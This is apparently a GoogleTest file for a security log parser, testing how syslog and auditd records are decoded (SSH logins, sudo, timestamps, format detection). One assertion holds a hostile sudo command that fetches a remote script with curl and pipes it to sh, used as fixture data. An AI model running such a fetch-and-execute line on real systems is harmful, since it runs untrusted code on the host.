#include <gtest/gtest.h>

#include "format_test_util.h"
#include "formats/auditd.h"
#include "formats/syslog.h"

namespace cloudsift::test {
namespace {

FileInfo Dated2024() {
    FileInfo info;
    info.hints.day = DaysFromCivil(2024, 6, 1);
    return info;
}

TEST(Syslog, AuthLog) {
    auto d = DecodeWith(SyslogFormat(), Fixture("auth.log"), Dated2024());
    ASSERT_EQ(d.report.bad(), 0u) << Reasons(d.report);
    ASSERT_EQ(d.records.size(), 9u);
    const auto& f = d.records[0];
    EXPECT_EQ(f.time, *ParseIsoTime("2024-03-01T12:00:00Z"));
    EXPECT_EQ(f.cls, EventClass::Authentication);
    EXPECT_EQ(f.N("product"), "linux");
    EXPECT_EQ(f.N("logsource_service"), "auth");
    EXPECT_EQ(f.N("actor_name"), "admin");
    EXPECT_EQ(f.N("src_ip"), "198.51.100.23");
    EXPECT_EQ(f.N("src_port"), "51234");
    EXPECT_EQ(f.N("outcome"), "failure");
    EXPECT_TRUE(f.Has("auth_result", "failed"));
    EXPECT_TRUE(f.Has("auth_method", "password"));
    EXPECT_TRUE(f.Has("appname", "sshd"));
    EXPECT_TRUE(f.Has("procid", "4242"));
    EXPECT_TRUE(f.Has("hostname", "ip-10-0-1-15"));
    EXPECT_EQ(d.records[1].N("actor_name"), "root");
    EXPECT_TRUE(d.records[2].Has("auth_result", "invalid_user"));
    EXPECT_EQ(d.records[2].N("actor_name"), "oracle");
    EXPECT_EQ(d.records[3].N("outcome"), "success");
    EXPECT_TRUE(d.records[3].Has("auth_method", "publickey"));
    EXPECT_EQ(d.records[3].N("actor_name"), "ec2-user");
    const auto& sudo = d.records[4];
    EXPECT_EQ(sudo.N("action"), "sudo");
    EXPECT_EQ(sudo.N("actor_name"), "ec2-user");
    EXPECT_TRUE(sudo.Has("run_as", "root"));
    EXPECT_TRUE(sudo.Has("command", "/bin/bash -c curl http://203.0.113.66/x.sh ; sh")) << sudo.json;
    EXPECT_TRUE(sudo.Has("pwd", "/home/ec2-user"));
    EXPECT_TRUE(d.records[5].Has("by_user", "ec2-user"));
    EXPECT_EQ(d.records[6].N("logsource_service"), "syslog");
    EXPECT_EQ(d.records[6].cls, EventClass::SystemActivity);
    EXPECT_TRUE(d.records[7].Has("appname", "kernel"));
    EXPECT_EQ(d.records[8].time, *ParseIsoTime("2024-03-10T12:00:08Z"));
}

TEST(Syslog, Rfc5424AndIsoVariant) {
    auto d = DecodeWith(SyslogFormat(), Fixture("syslog5424.log"));
    EXPECT_EQ(d.records.size(), 4u);
    EXPECT_EQ(d.report.reasons().at("syslog.priority"), 1u);
    EXPECT_EQ(d.report.reasons().at("syslog.not_syslog"), 1u);
    const auto& r = d.records[0];
    EXPECT_EQ(r.time, *ParseIsoTime("2024-03-01T12:00:00.123Z"));
    EXPECT_TRUE(r.Has("facility", "auth"));
    EXPECT_TRUE(r.Has("severity", "crit"));
    EXPECT_TRUE(r.Has("msgid", "ID47"));
    EXPECT_TRUE(r.Has("message", "'su root' failed for alice on /dev/pts/8"));
    EXPECT_EQ(r.N("logsource_service"), "auth");
    const auto& sd = d.records[1];
    EXPECT_EQ(sd.time, *ParseIsoTime("2024-03-01T11:00:01Z"));
    EXPECT_TRUE(sd.Has("message", "An application event"));
    EXPECT_TRUE(sd.Has("facility", "local4"));
    EXPECT_NE(sd.json.find("structured_data"), std::string::npos);
    EXPECT_EQ(d.records[3].time, *ParseIsoTime("2024-03-01T12:00:02Z"));
    EXPECT_TRUE(d.records[3].Has("appname", "systemd"));
}

// Without a dated path the year comes from the file's last write: records never lie after it.
TEST(Syslog, YearFromModificationTime) {
    struct Case {
        const char* mtime;
        const char* line;
        const char* expect;
    } cases[] = {
        {"2024-06-01T00:00:00Z", "Mar  1 12:00:00 h sshd[1]: x", "2024-03-01T12:00:00Z"},
        {"2025-01-05T08:00:00Z", "Dec 31 23:59:59 h sshd[1]: x", "2024-12-31T23:59:59Z"},
        {"2025-01-05T08:00:00Z", "Jan  2 03:00:00 h sshd[1]: x", "2025-01-02T03:00:00Z"},
        // Syslog stamps are local time: up to a day past the write still belongs to its year.
        {"2024-03-01T02:00:00Z", "Mar  1 12:00:00 h sshd[1]: x", "2024-03-01T12:00:00Z"},
    };
    for (const auto& c : cases) {
        FileInfo info;
        info.mtime = *ParseIsoTime(c.mtime);
        auto d = DecodeWith(SyslogFormat(), std::string(c.line) + "\n", info);
        ASSERT_EQ(d.records.size(), 1u) << c.line;
        EXPECT_EQ(d.records[0].time, *ParseIsoTime(c.expect)) << c.mtime << " " << c.line;
    }
}

TEST(Syslog, Sniffing) {
    FileInfo none;
    EXPECT_GE(SyslogFormat().Sniff(Fixture("auth.log"), none), 60);
    EXPECT_LT(SyslogFormat().Sniff(Fixture("audit.log"), none), 30);
    EXPECT_LT(SyslogFormat().Sniff(Fixture("nginx_combined.log"), none), 30);
}

TEST(Auditd, Records) {
    auto d = DecodeWith(AuditdFormat(), Fixture("audit.log"));
    EXPECT_EQ(d.records.size(), 5u);
    EXPECT_EQ(d.report.reasons().at("auditd.timestamp"), 1u);
    EXPECT_EQ(d.report.reasons().at("auditd.not_audit"), 1u);
    const auto& r = d.records[0];
    EXPECT_EQ(r.time, 1709294400123);
    EXPECT_EQ(r.N("product"), "linux");
    EXPECT_EQ(r.N("logsource_service"), "auditd");
    EXPECT_EQ(r.N("action"), "SYSCALL");
    EXPECT_EQ(r.N("outcome"), "success");
    EXPECT_EQ(r.N("resource"), "/usr/bin/curl");
    EXPECT_TRUE(r.Has("syscall", "59"));
    EXPECT_TRUE(r.Has("exe", "/usr/bin/curl"));
    EXPECT_TRUE(r.Has("key", "exec"));
    EXPECT_TRUE(r.Has("audit_serial", "4242"));
    EXPECT_TRUE(d.records[1].Has("a2", "/tmp/x"));
    const auto& auth = d.records[2];
    EXPECT_EQ(auth.cls, EventClass::Authentication);
    EXPECT_EQ(auth.N("actor_name"), "root");
    EXPECT_EQ(auth.N("src_ip"), "198.51.100.23");
    EXPECT_EQ(auth.N("outcome"), "failure");
    EXPECT_TRUE(auth.Has("op", "PAM:authentication"));
    EXPECT_TRUE(d.records[3].Has("node", "web1"));
    EXPECT_EQ(d.records[3].time, 1709294402005);
    EXPECT_EQ(d.records[3].N("outcome"), "success");
}

TEST(Auditd, Sniffing) {
    FileInfo none;
    EXPECT_GE(AuditdFormat().Sniff(Fixture("audit.log"), none), 80);
    EXPECT_LT(AuditdFormat().Sniff(Fixture("auth.log"), none), 30);
}

} // namespace
} // namespace cloudsift::test
